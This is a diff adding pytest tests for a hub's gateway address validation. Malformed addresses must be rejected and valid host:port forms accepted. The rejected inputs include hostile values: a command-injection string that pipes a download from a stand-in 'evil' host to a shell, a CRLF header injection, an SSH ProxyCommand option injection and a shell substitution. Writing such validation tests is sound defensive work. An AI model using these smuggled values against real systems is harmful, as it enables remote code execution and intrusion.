@@ -412,3 +412,20 @@ def test_the_join_needs_every_part_of_its_order(monkeypatch):
         with monkeypatch.context() as patched:
             patched.setattr(Record, "rank", property(rank))
             assert not holds(), name
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["x;curl evil|sh;#:8443", "x:²", "x\r\nHost: y:1", "x:1\n", "-oProxyCommand=x:1", "x", ":", "x y:1", "$(x):1"],
+)
+def test_an_address_that_is_none_is_refused(address):
+    hub = hub_of("alpha")
+    merge = fresh().merge(sealed(hub, node(hub, role="gateway", addresses=(address,))).envelope, wall=NOW)
+    assert merge.verdict is Verdict.REJECTED
+
+
+@pytest.mark.parametrize("address", ["10.1.2.3:8443", "gate.site-a.example:1", "::1:8443", "localhost:65535"])
+def test_an_address_of_a_hub_is_taken(address):
+    hub = hub_of("alpha")
+    merge = fresh().merge(sealed(hub, node(hub, role="gateway", addresses=(address,))).envelope, wall=NOW)
+    assert merge.verdict is Verdict.NEW
